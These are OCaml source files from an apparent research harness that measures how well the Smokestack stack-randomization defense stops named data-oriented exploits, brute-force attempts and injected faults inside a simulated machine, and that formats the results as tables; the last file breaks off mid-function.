  let attacks =
    [
      ( "librelp/key-leak",
        Lazy.force Apps.Librelp.program,
        Apps.Librelp.attack_static );
      ("wireshark/CVE-2014-2299", Lazy.force Apps.Wireshark.program, Apps.Wireshark.attack);
      ( "proftpd/key-extraction",
        Lazy.force Apps.Proftpd.program,
        Apps.Proftpd.attack_key_extraction );
      ("proftpd/bot", Lazy.force Apps.Proftpd.program, Apps.Proftpd.attack_bot);
      ( "proftpd/mem-permissions",
        Lazy.force Apps.Proftpd.program,
        Apps.Proftpd.attack_memperm );
    ]
  in
  let cells =
    Sched.Pool.run_all pool
      (List.concat_map
         (fun (name, prog, attack) ->
           List.map
             (fun d ->
               Sched.Job.v
                 ~id:(Printf.sprintf "e6/%s/%s" name (Defenses.Defense.name d))
                 ~seed:build_seed
                 (fun () ->
                   let applied = Defenses.Defense.apply ~seed:build_seed d prog in
                   mk_cell name d
                     (trials attack applied ~n:trials_per_cell ~seed0:29)))
             [
               Defenses.Defense.No_defense;
               Defenses.Defense.Smokestack Smokestack.Config.default;
             ])
         attacks)
  in
  { title = "E6: real-vulnerability DOP exploits, undefended vs Smokestack"; cells }

let rng_security ?(pool = Sched.Pool.sequential) ?(trials_per_cell = 12)
    ?(build_seed = 3L) () =
  let prog = Lazy.force Apps.Librelp.program in
  let cells =
    Sched.Pool.run_all pool
      (List.map
         (fun scheme ->
           Sched.Job.v ~id:("e10/" ^ Rng.Scheme.name scheme) ~seed:build_seed
             (fun () ->
               let config =
                 Smokestack.Config.with_scheme scheme Smokestack.Config.default
               in
               let d = Defenses.Defense.Smokestack config in
               let applied = Defenses.Defense.apply ~seed:build_seed d prog in
               mk_cell "librelp/state-disclosure" d
                 (trials Apps.Librelp.attack_pseudo_state applied
                    ~n:trials_per_cell ~seed0:61)))
         Rng.Scheme.all)
  in
  {
    title =
      "E10: state-disclosure prediction vs randomness scheme (Table I's \
       security column, executed)";
    cells;
  }

type rerand_row = { interval : int; rr_success_rate : float }

let rerandomization ?(pool = Sched.Pool.sequential) ?(trials_per_cell = 12)
    ?(intervals = [ 1; 8; 64 ]) () =
  let prog = Lazy.force Apps.Librelp.program in
  Sched.Pool.run_all pool
    (List.map
       (fun interval ->
         Sched.Job.v ~id:(Printf.sprintf "e11/interval-%d" interval) ~seed:3L
           (fun () ->
             let config =
               { Smokestack.Config.default with redraw_interval = interval }
             in
             let applied =
               Defenses.Defense.apply ~seed:3L
                 (Defenses.Defense.Smokestack config)
                 prog
             in
             let verdicts =
               trials Apps.Librelp.attack_probe_then_exploit applied
                 ~n:trials_per_cell ~seed0:83
             in
             { interval; rr_success_rate = Attacks.Verdict.success_rate verdicts }))
       intervals)

let rerand_table rows =
  let tbl =
    Sutil.Texttable.create
      ~columns:
        [
          ("redraw interval (requests)", Sutil.Texttable.Right);
          ("probe-then-exploit success", Sutil.Texttable.Right);
        ]
  in
  List.iter
    (fun r ->
      Sutil.Texttable.add_row tbl
        [
          string_of_int r.interval;
          Printf.sprintf "%.0f%%" (r.rr_success_rate *. 100.);
        ])
    rows;
  tbl

let rerand_to_markdown rows =
  let buf = Buffer.create 128 in
  Buffer.add_string buf
    "| redraw interval (requests) | probe-then-exploit success |\n|---|---|\n";
  List.iter
    (fun r ->
      Buffer.add_string buf
        (Printf.sprintf "| %d | %.0f%% |\n" r.interval
           (r.rr_success_rate *. 100.)))
    rows;
  Buffer.contents buf

type brute_row = {
  bdefense : Defenses.Defense.t;
  attempts_to_success : int option;
  budget : int;
  detected_along_the_way : int;
}

let brute ?(pool = Sched.Pool.sequential) ?(max_attempts = 400)
    ?(build_seed = 3L) () =
  let prog = Lazy.force Apps.Librelp.program in
  Sched.Pool.run_all pool
    (List.map
       (fun d ->
         Sched.Job.v ~id:("e9/" ^ Defenses.Defense.name d) ~seed:build_seed
           (fun () ->
             let applied = Defenses.Defense.apply ~seed:build_seed d prog in
             let result =
               Attacks.Bruteforce.run ~max_attempts (fun i ->
                   Apps.Librelp.attack_static applied
                     ~seed:(Int64.of_int (5000 + i)))
             in
             {
               bdefense = d;
               attempts_to_success =
                 (if result.succeeded then Some result.attempts else None);
               budget = max_attempts;
               detected_along_the_way =
                 List.length
                   (List.filter
                      (function Attacks.Verdict.Detected _ -> true | _ -> false)
                      result.verdicts);
             }))
       (defenses ()))

let table t =
  let names = List.sort_uniq compare (List.map (fun c -> c.attack_name) t.cells) in
  let ds = List.sort_uniq compare (List.map (fun c -> c.defense) t.cells) in
  let tbl =
    Sutil.Texttable.create
      ~columns:
        (("attack", Sutil.Texttable.Left)
        :: List.map (fun d -> (Defenses.Defense.name d, Sutil.Texttable.Right)) ds)
  in
  List.iter
    (fun name ->
      Sutil.Texttable.add_row tbl
        (name
        :: List.map
             (fun d ->
               match
                 List.find_opt
                   (fun c -> c.attack_name = name && c.defense = d)
                   t.cells
               with
               | Some c -> Printf.sprintf "%.0f%%" (c.success_rate *. 100.)
               | None -> "-")
             ds))
    names;
  tbl

let to_markdown t =
  let names = List.sort_uniq compare (List.map (fun c -> c.attack_name) t.cells) in
  let ds = List.sort_uniq compare (List.map (fun c -> c.defense) t.cells) in
  let buf = Buffer.create 512 in
  Buffer.add_string buf
    ("| attack | "
    ^ String.concat " | " (List.map Defenses.Defense.name ds)
    ^ " |\n|---|" ^ String.concat "" (List.map (fun _ -> "---|") ds) ^ "\n");
  List.iter
    (fun name ->
      Buffer.add_string buf ("| " ^ name ^ " | ");
      Buffer.add_string buf
        (String.concat " | "
           (List.map
              (fun d ->
                match
                  List.find_opt
                    (fun c -> c.attack_name = name && c.defense = d)
                    t.cells
                with
                | Some c -> Printf.sprintf "%.0f%%" (c.success_rate *. 100.)
                | None -> "-")
              ds));
      Buffer.add_string buf " |\n")
    names;
  Buffer.contents buf

let brute_table rows =
  let tbl =
    Sutil.Texttable.create
      ~columns:
        [
          ("defense", Sutil.Texttable.Left);
          ("attempts to success", Sutil.Texttable.Right);
          ("detections en route", Sutil.Texttable.Right);
        ]
  in
  List.iter
    (fun r ->
      Sutil.Texttable.add_row tbl
        [
          Defenses.Defense.name r.bdefense;
          (match r.attempts_to_success with
          | Some n -> string_of_int n
          | None -> Printf.sprintf "> %d (gave up)" r.budget);
          string_of_int r.detected_along_the_way;
        ])
    rows;
  tbl

let brute_to_markdown rows =
  let buf = Buffer.create 256 in
  Buffer.add_string buf
    "| defense | attempts to success | detections en route |\n|---|---|---|\n";
  List.iter
    (fun r ->
      Buffer.add_string buf
        (Printf.sprintf "| %s | %s | %d |\n"
           (Defenses.Defense.name r.bdefense)
           (match r.attempts_to_success with
           | Some n -> string_of_int n
           | None -> Printf.sprintf "> %d (gave up)" r.budget)
           r.detected_along_the_way))
    rows;
  Buffer.contents buf
