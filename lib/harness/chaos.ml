type row = {
  cworkload : string;
  cspec : string;
  cfamily : string;
  coutcome : string;
  cfired : int;
  ccaught : bool;
  cdegradations : string list;
  cengines_agree : bool;
  cclean : bool;
  ccorrupting : bool;
}

type policy_row = {
  ppolicy : string;
  poutcome : string;
  pdegradations : string list;
  pscore : float;
}

type t = {
  rows : row list;
  caught : int;
  corrupting_fired : int;
  detection_rate : float;
  policy : policy_row list;
}

let plan_of_spec s =
  match Fault.Plan.of_spec s with
  | Ok p -> p
  | Error e -> failwith ("Harness.Chaos: bad built-in plan spec: " ^ e)

let default_plans =
  List.map plan_of_spec
    [
      "rng:ones@1";
      "rng:stuck=0xdeadbeef@4";
      "rng:bias=8@1";
      "rng:lat=250@1";
      "rng:off@3";
      "mem:stack:64:3@2000";
      "mem:data:16:1@1500";
      "intr:ss.fid_assert:xor=1@1";
      "rng:ones@never";
      "mem:stack:64:3@never";
    ]

let default_workloads = [ "mcf"; "proftpd-io" ]

let degr_str (d : Rng.Generator.degradation) =
  Printf.sprintf "%s->%s"
    (Rng.Scheme.name d.from_scheme)
    (match d.to_scheme with Some s -> Rng.Scheme.name s | None -> "ABORT")

(* Everything a run exposes; two runs with equal [obs] are
   observationally identical. *)
type obs = {
  o_outcome : Machine.Exec.outcome;
  o_output : string;
  o_cycles : float;
  o_instrs : int;
  o_fired : int;
  o_degr : string list;
}

let same_obs a b =
  String.equal
    (Machine.Exec.outcome_to_string a.o_outcome)
    (Machine.Exec.outcome_to_string b.o_outcome)
  && String.equal a.o_output b.o_output
  && Float.equal a.o_cycles b.o_cycles
  && a.o_instrs = b.o_instrs

(* One hardened run of [w], optionally with [plan] armed.  The
   generator is caller-visible state (degradations, tamper), so the
   chaos harness drives the run by hand instead of going through
   [Workbench.run] (which also raises on any non-clean exit — here
   faults and detections are the data). *)
let observe ?plan ~policy ~scheme ~backend ~seed (w : Apps.Spec.workload) =
  let config = Smokestack.Config.with_scheme scheme Smokestack.Config.default in
  let h = Smokestack.Harden.harden ~seed:3L config (Lazy.force w.program) in
  let entropy = Crypto.Entropy.create ~seed in
  let gen = Rng.Generator.create ~policy scheme ~entropy in
  let st = Smokestack.Harden.prepare ~entropy ~gen h in
  let armed = Option.map (fun p -> Fault.Inject.arm ~gen p st) plan in
  let chunks = ref (Workbench.chunks_of_input w.input) in
  Machine.Exec.set_input st (fun _ max ->
      match !chunks with
      | [] -> ""
      | c :: rest ->
          chunks := rest;
          if String.length c > max then String.sub c 0 max else c);
  let outcome, stats = backend.Machine.Backend.run ~fuel:400_000_000 st in
  {
    o_outcome = outcome;
    o_output = stats.Machine.Exec.output;
    o_cycles = stats.Machine.Exec.cycles;
    o_instrs = stats.Machine.Exec.instr_count;
    o_fired = (match armed with Some a -> Fault.Inject.fired a | None -> 0);
    o_degr = List.map degr_str (Rng.Generator.degradations gen);
  }

let scheme_for (plan : Fault.Plan.t) =
  match plan.site with
  | Fault.Plan.Rng _ -> Rng.Scheme.Rdrand
  | Fault.Plan.Mem_flip _ | Fault.Plan.Intrinsic _ ->
      Smokestack.Config.(default.scheme)

let corrupting (plan : Fault.Plan.t) =
  match plan.site with
  | Fault.Plan.Rng (Fault.Plan.Latency _) -> false
  | Fault.Plan.Rng _ | Fault.Plan.Mem_flip _ | Fault.Plan.Intrinsic _ -> true

let cell ~seed ~(plan : Fault.Plan.t) (w : Apps.Spec.workload) =
  let scheme = scheme_for plan in
  let policy = Rng.Generator.Fail_secure in
  let bytecode = Machine.Backend.find Machine.Backend.Bytecode in
  let faulted_ref =
    observe ~plan ~policy ~scheme ~backend:Machine.Backend.reference ~seed w
  in
  let faulted_bc = observe ~plan ~policy ~scheme ~backend:bytecode ~seed w in
  let clean_ref =
    observe ~policy ~scheme ~backend:Machine.Backend.reference ~seed w
  in
  let agree =
    same_obs faulted_ref faulted_bc
    && faulted_ref.o_fired = faulted_bc.o_fired
    && faulted_ref.o_degr = faulted_bc.o_degr
  in
  let clean = same_obs faulted_ref clean_ref && faulted_ref.o_degr = [] in
  if plan.trigger = Fault.Plan.Never && not clean then
    failwith
      (Printf.sprintf
         "Harness.Chaos: %s on %s: a never-firing plan changed the run's \
          observables"
         (Fault.Plan.to_spec plan) w.wname);
  let caught =
    (match faulted_ref.o_outcome with
    | Machine.Exec.Detected _ -> true
    | _ -> false)
    || faulted_ref.o_degr <> []
  in
  {
    cworkload = w.wname;
    cspec = Fault.Plan.to_spec plan;
    cfamily = Fault.Plan.family plan;
    coutcome = Machine.Exec.outcome_to_string faulted_ref.o_outcome;
    cfired = faulted_ref.o_fired;
    ccaught = caught;
    cdegradations = faulted_ref.o_degr;
    cengines_agree = agree;
    cclean = clean;
    ccorrupting = corrupting plan;
  }

(* Fail-secure vs fail-open on the stuck-at-all-ones plan: what the
   attacker faces after each policy's degradation.  Fail-secure falls
   back to AES-10, so the expected brute-force cost of a permuted
   frame is unchanged; fail-open falls back to the memory-resident
   pseudo scheme, whose state-disclosure attack (E10) finds the layout
   in one attempt. *)
let policy_rows ~seed (w : Apps.Spec.workload) =
  let plan = plan_of_spec "rng:ones@1" in
  let secure_score =
    let config =
      Smokestack.Config.with_scheme Rng.Scheme.aes10 Smokestack.Config.default
    in
    let h = Smokestack.Harden.harden ~seed:3L config (Lazy.force w.program) in
    match Smokestack.Harden.permuted_functions h with
    | [] -> 1.
    | fn :: _ -> (
        match Smokestack.Pbox.binding h.Smokestack.Harden.pbox fn with
        | Some b ->
            (Smokestack.Entropy_an.of_binding h.Smokestack.Harden.pbox b)
              .Smokestack.Entropy_an.expected_bruteforce_attempts
        | None -> 1.)
  in
  List.map
    (fun policy ->
      let o =
        observe ~plan ~policy ~scheme:Rng.Scheme.Rdrand
          ~backend:Machine.Backend.reference ~seed w
      in
      {
        ppolicy =
          (match policy with
          | Rng.Generator.Fail_secure -> "fail-secure"
          | Rng.Generator.Fail_open -> "fail-open");
        poutcome = Machine.Exec.outcome_to_string o.o_outcome;
        pdegradations = o.o_degr;
        pscore =
          (match policy with
          | Rng.Generator.Fail_secure -> secure_score
          | Rng.Generator.Fail_open -> 1.);
      })
    [ Rng.Generator.Fail_secure; Rng.Generator.Fail_open ]

let run ?(pool = Sched.Pool.sequential) ?(workloads = default_workloads)
    ?(plans = default_plans) ?(seed = 7L) () =
  let ws =
    List.map
      (fun name ->
        match Apps.Spec.find name with
        | Some w -> w
        | None -> failwith ("Harness.Chaos: unknown workload " ^ name))
      workloads
  in
  Workbench.force_programs ws;
  let jobs =
    List.concat_map
      (fun (w : Apps.Spec.workload) ->
        List.map
          (fun plan ->
            let id =
              Printf.sprintf "chaos/%s/%s" w.wname (Fault.Plan.to_spec plan)
            in
            Sched.Job.seeded ~root:seed ~id (fun ~seed -> cell ~seed ~plan w))
          plans)
      ws
  in
  let rows = Sched.Pool.run_all pool jobs in
  let policy =
    policy_rows
      ~seed:(Sutil.Simrng.split_seed ~root:seed ~id:"chaos/policy")
      (List.hd ws)
  in
  let counted = List.filter (fun r -> r.ccorrupting && r.cfired > 0) rows in
  let caught = List.length (List.filter (fun r -> r.ccaught) counted) in
  let corrupting_fired = List.length counted in
  {
    rows;
    caught;
    corrupting_fired;
    detection_rate =
      (if corrupting_fired = 0 then 0.
       else float_of_int caught /. float_of_int corrupting_fired);
    policy;
  }

let fmt_attempts a =
  if a >= 1e6 then Printf.sprintf "%.2e" a
  else if Float.is_integer a then Printf.sprintf "%.0f" a
  else Printf.sprintf "%.1f" a

let table t =
  let tbl =
    Sutil.Texttable.create
      ~columns:
        Sutil.Texttable.
          [
            ("workload", Left);
            ("plan", Left);
            ("outcome", Left);
            ("fired", Right);
            ("caught", Left);
            ("degradation", Left);
            ("engines", Left);
            ("=clean", Left);
          ]
  in
  List.iter
    (fun r ->
      Sutil.Texttable.add_row tbl
        [
          r.cworkload;
          r.cspec;
          r.coutcome;
          string_of_int r.cfired;
          (if (not r.ccorrupting) || r.cfired = 0 then "-"
           else if r.ccaught then "yes"
           else "NO");
          (match r.cdegradations with
          | [] -> "-"
          | ds -> String.concat "," ds);
          (if r.cengines_agree then "agree" else "DIFF");
          (if r.cclean then "yes" else "no");
        ])
    t.rows;
  tbl

let policy_table t =
  let tbl =
    Sutil.Texttable.create
      ~columns:
        Sutil.Texttable.
          [
            ("policy", Left);
            ("outcome", Left);
            ("degradation", Left);
            ("bruteforce attempts", Right);
          ]
  in
  List.iter
    (fun p ->
      Sutil.Texttable.add_row tbl
        [
          p.ppolicy;
          p.poutcome;
          (match p.pdegradations with
          | [] -> "-"
          | ds -> String.concat "," ds);
          fmt_attempts p.pscore;
        ])
    t.policy;
  tbl

let to_markdown t =
  let b = Buffer.create 1024 in
  Buffer.add_string b
    "E13: chaos — seeded fault injection across workloads and engines\n\n";
  Buffer.add_string b (Sutil.Texttable.render (table t));
  Buffer.add_string b
    (Printf.sprintf "\ndetection: %d/%d corrupting fired plans caught (%.1f%%)\n"
       t.caught t.corrupting_fired (100. *. t.detection_rate));
  Buffer.add_string b
    "\nfail-secure vs fail-open (rng:ones@1, RDRAND source):\n\n";
  Buffer.add_string b (Sutil.Texttable.render (policy_table t));
  Buffer.contents b
