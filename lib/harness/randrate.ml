type row = {
  scheme : Rng.Scheme.t;
  security : Rng.Scheme.security;
  cycles_per_draw : float;
  draws_measured : int;
}

type t = { rows : row list }

let paper_values =
  [ ("pseudo", 3.4); ("AES-1", 19.2); ("AES-10", 92.8); ("RDRAND", 265.6) ]

(* Draw through a minimal hardened program whose hot function does
   nothing but request a permutation index, so the measured rate is the
   intrinsic's own cost. *)
let probe_src =
  {|
long sink = 0;

void draw_once() {
  long x = 0;
  x = sink;
  sink = x + 1;
}

int main() {
  long i = 0;
  while (i < DRAWS) {
    draw_once();
    i += 1;
  }
  return 0;
}
|}

let measure ~draws ~seed scheme =
  let src =
    Str_replace.replace ~needle:"DRAWS" ~by:(string_of_int draws) probe_src
  in
  let prog = Minic.Driver.compile src in
  let run config =
    let hardened = Smokestack.Harden.harden ~seed:3L config prog in
    let entropy = Crypto.Entropy.create ~seed in
    let st = Smokestack.Harden.prepare hardened ~entropy in
    let outcome, stats = Machine.Exec.run ~fuel:400_000_000 st in
    (match outcome with
    | Machine.Exec.Exit _ -> ()
    | o -> failwith ("Harness.Randrate: " ^ Machine.Exec.outcome_to_string o));
    stats.cycles
  in
  (* Isolate the RNG cost: same instrumentation with the scheme under
     test vs with a zero-cost... there is no zero-cost scheme, so
     subtract the pseudo run and add back pseudo's nominal Table-I
     cost. *)
  let config = Smokestack.Config.with_scheme scheme Smokestack.Config.default in
  let cycles = run config in
  let pseudo_cycles =
    run (Smokestack.Config.with_scheme Rng.Scheme.Pseudo Smokestack.Config.default)
  in
  ((cycles -. pseudo_cycles) /. float_of_int draws) +. Machine.Cost.rng_pseudo

let run ?(pool = Sched.Pool.sequential) ?(draws = 100_000) ?(seed = 7L) () =
  let rows =
    Sched.Pool.run_all pool
      (List.map
         (fun scheme ->
           Sched.Job.v ~id:("table1/" ^ Rng.Scheme.name scheme) ~seed
             (fun () ->
               {
                 scheme;
                 security = Rng.Scheme.security scheme;
                 cycles_per_draw = measure ~draws ~seed scheme;
                 draws_measured = draws;
               }))
         Rng.Scheme.all)
  in
  { rows }

let table t =
  let tbl =
    Sutil.Texttable.create
      ~columns:
        [
          ("source", Sutil.Texttable.Left);
          ("security", Sutil.Texttable.Left);
          ("measured (cyc/draw)", Sutil.Texttable.Right);
          ("paper (cyc/draw)", Sutil.Texttable.Right);
        ]
  in
  List.iter
    (fun r ->
      Sutil.Texttable.add_row tbl
        [
          Rng.Scheme.name r.scheme;
          Rng.Scheme.security_to_string r.security;
          Sutil.Texttable.fmt_f1 r.cycles_per_draw;
          Sutil.Texttable.fmt_f1
            (List.assoc (Rng.Scheme.name r.scheme) paper_values);
        ])
    t.rows;
  tbl

let to_markdown t =
  let buf = Buffer.create 256 in
  Buffer.add_string buf
    "| source | security | measured cyc/draw | paper cyc/draw |\n|---|---|---|---|\n";
  List.iter
    (fun r ->
      Buffer.add_string buf
        (Printf.sprintf "| %s | %s | %.1f | %.1f |\n"
           (Rng.Scheme.name r.scheme)
           (Rng.Scheme.security_to_string r.security)
           r.cycles_per_draw
           (List.assoc (Rng.Scheme.name r.scheme) paper_values)))
    t.rows;
  Buffer.contents buf
