(** Differential validation of the static DOP analyzer (tentpole
    acceptance check).

    Every attack the dynamic harness can land against the unhardened
    build — the six synthetic {!Apps.Synth} variants plus the five
    real-vulnerability exploits of {!Security.realvuln} — must
    correspond to a DOP pair the static analyzer reports for the same
    program.  Each attack carries its {e witness set}: the
    (buffer function, buffer slot, victim function, victim slot)
    tuples it actually corrupts (buffer slot ["*"] for the wild-write
    channel).  A row validates when the attack either fails
    dynamically or at least one witness appears among the statically
    enumerated pairs.

    The converse is deliberately not asserted: the analyzer is allowed
    to over-approximate (escape-based false positives are documented
    in DESIGN.md §10), but it must never miss a demonstrated attack. *)

type row = {
  cname : string;  (** attack name, e.g. ["stack-direct"] *)
  verdicts : Attacks.Verdict.t list;
      (** dynamic attempts against the unhardened build *)
  dynamic_success : bool;
  static_pairs : int;  (** pairs the analyzer reports for the program *)
  matched : string option;
      (** the first witness found among the static pairs, rendered
          ["buf_func:buf_slot -> victim_func:victim_slot"] *)
  validated : bool;  (** [dynamic_success] implies [matched <> None] *)
}

type t = { rows : row list; all_validated : bool }

val run : ?pool:Sched.Pool.t -> ?store:Store.Cache.t -> ?trials:int -> unit -> t
(** Static analysis runs once per distinct program in the submitting
    domain; only the dynamic trials are parallelized.  With [?store],
    each case's verdict list is served from (and recorded to) the store
    keyed on its program source, the attack-case name and the trial
    parameters — a warm run replays no attacks and reports
    identically. *)

val table : t -> Sutil.Texttable.t
val to_markdown : t -> string

(** {2 Store plumbing shared with the offense harness}

    Verdicts cross the store as [(tag, detail)] pairs so {!Store.Entry}
    keeps no dependency on [lib/attacks]; an unknown tag decodes to
    [None] and the whole cached list counts as a miss. *)

val verdict_to_pair : Attacks.Verdict.t -> string * string
val verdict_of_pair : string * string -> Attacks.Verdict.t option

val cached_verdicts :
  ?store:Store.Cache.t ->
  source:string ->
  config:Smokestack.Config.t option ->
  extra:string ->
  (unit -> Attacks.Verdict.t list) ->
  Attacks.Verdict.t list
(** Serve a verdict list from the store when warm, else run the thunk
    and record it.  The key is content-addressed on the program source,
    the hardening config, the default engine kind and [extra] (which
    must carry every further determinism input: case name, trial count,
    seeds). *)

(** {2 Selective-hardening differential (E14 acceptance)}

    Elision is draw-preserving, so selective hardening must be
    observationally indistinguishable from full hardening: every attack
    of the eleven differential cases gets the bit-identical verdict
    list, and every Progen corpus program the identical outcome and
    output.  (Cycle counts legitimately differ — that delta is what
    {!Selective} measures — so stats are not compared.) *)

type selective_row = {
  sname : string;  (** attack case or ["progen-<seed>"] *)
  elided : int;  (** functions the oracle elided for this program *)
  identical : bool;
  detail : string;
}

type selective_t = { srows : selective_row list; all_identical : bool }

val run_selective :
  ?pool:Sched.Pool.t ->
  ?store:Store.Cache.t ->
  ?trials:int ->
  ?progen_seeds:int ->
  unit ->
  selective_t
(** Installs the {!Analysis.Validate} elision oracle, then compares
    full vs selective hardening: verdict lists over [trials] attempts
    for each attack case, outcome + output for [progen_seeds] generated
    programs.  With [?store], both legs of every comparison (full and
    selective each have their own config-fingerprinted key) are served
    from the store when present. *)

val selective_table : selective_t -> Sutil.Texttable.t
val selective_to_markdown : selective_t -> string
