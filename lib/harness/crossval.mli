(** Differential validation of the static DOP analyzer (tentpole
    acceptance check).

    Every attack the dynamic harness can land against the unhardened
    build — the six synthetic {!Apps.Synth} variants plus the five
    real-vulnerability exploits of {!Security.realvuln} — must
    correspond to a DOP pair the static analyzer reports for the same
    program.  Each attack carries its {e witness set}: the
    (buffer function, buffer slot, victim function, victim slot)
    tuples it actually corrupts (buffer slot ["*"] for the wild-write
    channel).  A row validates when the attack either fails
    dynamically or at least one witness appears among the statically
    enumerated pairs.

    The converse is deliberately not asserted: the analyzer is allowed
    to over-approximate (escape-based false positives are documented
    in DESIGN.md §10), but it must never miss a demonstrated attack. *)

type row = {
  cname : string;  (** attack name, e.g. ["stack-direct"] *)
  verdicts : Attacks.Verdict.t list;
      (** dynamic attempts against the unhardened build *)
  dynamic_success : bool;
  static_pairs : int;  (** pairs the analyzer reports for the program *)
  matched : string option;
      (** the first witness found among the static pairs, rendered
          ["buf_func:buf_slot -> victim_func:victim_slot"] *)
  validated : bool;  (** [dynamic_success] implies [matched <> None] *)
}

type t = { rows : row list; all_validated : bool }

val run : ?pool:Sched.Pool.t -> ?trials:int -> unit -> t
(** Static analysis runs once per distinct program in the submitting
    domain; only the dynamic trials are parallelized. *)

val table : t -> Sutil.Texttable.t
val to_markdown : t -> string
