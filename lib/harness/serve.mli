(** E15: the server-runtime experiment — the hardened multi-tenant
    fleet under a deterministic mixed benign+attack schedule.

    Builds one tenant per session app (all hardened with the same
    defense, Smokestack by default), generates the traffic schedule,
    dispatches it over the pool, and reports throughput, latency
    percentiles, shedding, and the security ledger.  The headline
    invariants:

    - the report (stdout and JSON) is byte-identical at any [--jobs]
      and on either engine, because every number derives from the
      cycle-accurate virtual clock;
    - served attack sessions get {e exactly} the batch harness's
      verdict for the same instance and seed
      ([summary.batch_mismatches = 0]). *)

type config = {
  traffic : Server.Traffic.config;
  dispatch : Server.Dispatch.config;
  defense : Defenses.Defense.t;
}

val default : config
(** 1300 sessions, 12% attack / 6% chaos, 16 virtual handlers, queue
    capacity 1024, Smokestack default defense. *)

type t = {
  config : config;
  tenants : Server.Tenant.t list;
  scheduled : int * int * int;  (** (benign, attack, chaos) scheduled *)
  dispatch : Server.Dispatch.t;
  summary : Server.Metrics.summary;
}

val run :
  ?pool:Sched.Pool.t ->
  ?backend:Machine.Backend.t ->
  ?config:config ->
  unit ->
  t

val summary_table : t -> Sutil.Texttable.t
val tenant_table : t -> Sutil.Texttable.t

val class_table : t -> Sutil.Texttable.t
(** Per-priority-class latency/shed breakdown (see
    {!Server.Metrics.class_table}). *)

val to_markdown : t -> string
