type row = {
  pname : string;
  pkind : string;
  n_funcs : int;
  n_slots : int;
  n_overflow : int;
  n_victims : int;
  n_pairs : int;
  easiest : (string * float) list;
  hints_ok : bool;
}

type t = { rows : row list; defense_names : string list }

let programs ~progen =
  List.map
    (fun (w : Apps.Spec.workload) ->
      let kind = match w.kind with `Spec -> "spec" | `Io -> "io" in
      (* Spec/Synth lazies are shared across jobs, so they are forced
         here in the submitting domain; only the job-local progen
         compiles below stay lazy (skipped entirely on a warm store). *)
      (w.wname, kind, Lazy.from_val (Lazy.force w.program), None, w.dop_hints))
    Apps.Spec.all
  @ List.map
      (fun (v : Apps.Synth.variant) ->
        (v.vname, "synth", Lazy.from_val (Lazy.force v.program), None, []))
      Apps.Synth.variants
  @ List.map
      (fun (seed, source) ->
        ( Printf.sprintf "progen-%Ld" seed,
          "progen",
          lazy (Minic.Driver.compile source),
          Some source,
          [] ))
      (List.of_seq (Minic.Progen.range ~seed:9001L progen))

(* The analyzer row crosses the store as a "surface-row" entry.  The
   easiest-pair attempt counts are floats that can be [infinity]
   (unreachable pair), which JSON has no literal for, so they travel as
   IEEE-754 bit patterns — also making the cached row bit-identical to
   the fresh one. *)
let row_kind = "surface-row"
let row_version = 1

let row_entry r =
  let module J = Sutil.Json in
  Store.Entry.make ~kind:row_kind ~version:row_version
    (J.Obj
       [
         ("n_funcs", J.Int r.n_funcs);
         ("n_slots", J.Int r.n_slots);
         ("n_overflow", J.Int r.n_overflow);
         ("n_victims", J.Int r.n_victims);
         ("n_pairs", J.Int r.n_pairs);
         ( "easiest",
           J.List
             (List.map
                (fun (d, a) ->
                  J.Obj
                    [
                      ("defense", J.String d);
                      ( "attempts_bits",
                        J.String
                          (Printf.sprintf "%016Lx" (Int64.bits_of_float a)) );
                    ])
                r.easiest) );
         ("hints_ok", J.Bool r.hints_ok);
       ])

let row_of_entry ~pname ~pkind (e : Store.Entry.t) =
  let module J = Sutil.Json in
  if e.kind <> row_kind || e.version <> row_version then None
  else
    let j = e.payload in
    let int k = Option.bind (J.member k j) J.to_int_opt in
    let easiest =
      List.map
        (fun item ->
          match
            ( Option.bind (J.member "defense" item) J.to_str_opt,
              Option.bind (J.member "attempts_bits" item) J.to_str_opt )
          with
          | Some d, Some bits -> (
              match Int64.of_string_opt ("0x" ^ bits) with
              | Some b -> Some (d, Int64.float_of_bits b)
              | None -> None)
          | _ -> None)
        (J.to_list (Option.value ~default:(J.List []) (J.member "easiest" j)))
    in
    match
      ( (int "n_funcs", int "n_slots", int "n_overflow"),
        (int "n_victims", int "n_pairs"),
        Option.bind (J.member "hints_ok" j) (function
          | J.Bool b -> Some b
          | _ -> None) )
    with
    | ( (Some n_funcs, Some n_slots, Some n_overflow),
        (Some n_victims, Some n_pairs),
        Some hints_ok )
      when List.for_all Option.is_some easiest ->
        Some
          {
            pname;
            pkind;
            n_funcs;
            n_slots;
            n_overflow;
            n_victims;
            n_pairs;
            easiest = List.filter_map Fun.id easiest;
            hints_ok;
          }
    | _ -> None

let hints_hold (report : Analysis.Report.t) hints =
  List.for_all
    (fun (f, s) ->
      List.exists
        (fun (fa : Analysis.Funcan.t) ->
          fa.fname = f
          && List.exists
               (fun (sl : Analysis.Funcan.slot) ->
                 sl.name = s && sl.overflow <> [])
               fa.slots)
        report.analyses)
    hints

let run ?(pool = Sched.Pool.sequential) ?store ?(progen = 4) ?(score = true) ()
    =
  let programs = programs ~progen in
  let rows =
    Sched.Pool.run_all pool
      (List.map
         (fun (pname, pkind, prog, source, hints) ->
           Sched.Job.v ~id:("e12/" ^ pname) ~seed:3L (fun () ->
               let analyze () =
                 let report =
                   Analysis.Report.analyze_prog ~name:pname ~score
                     (Lazy.force prog)
                 in
                 let sum f =
                   List.fold_left
                     (fun acc (fs : Analysis.Report.func_summary) ->
                       acc + f fs)
                     0 report.funcs
                 in
                 {
                   pname;
                   pkind;
                   n_funcs = List.length report.funcs;
                   n_slots = sum (fun fs -> fs.n_slots);
                   n_overflow = sum (fun fs -> fs.n_overflow);
                   n_victims = sum (fun fs -> fs.n_victims);
                   n_pairs = List.length report.pairs;
                   easiest =
                     (if score then Analysis.Report.summary report else []);
                   hints_ok = hints_hold report hints;
                 }
               in
               match (store, source) with
               | Some store, Some source -> (
                   (* static analysis: no execution engine or run seed
                      is involved, so those key fields are pinned *)
                   let key =
                     Store.Key.of_source ~source_text:source ~config:None
                       ~engine:Machine.Backend.Reference ~seed:0L
                       ~extra:(Printf.sprintf "surface;score=%b" score)
                       ()
                   in
                   match
                     Option.bind (Store.Cache.find store key)
                       (row_of_entry ~pname ~pkind)
                   with
                   | Some row -> row
                   | None ->
                       let row = analyze () in
                       Store.Cache.put store key (row_entry row);
                       row)
               | _ -> analyze ()))
         programs)
  in
  { rows; defense_names = (if score then Analysis.Score.defense_names else []) }

let fmt_attempts a =
  if a = infinity then "-"
  else if a >= 1e6 then Printf.sprintf "%.2e" a
  else if Float.is_integer a then Printf.sprintf "%.0f" a
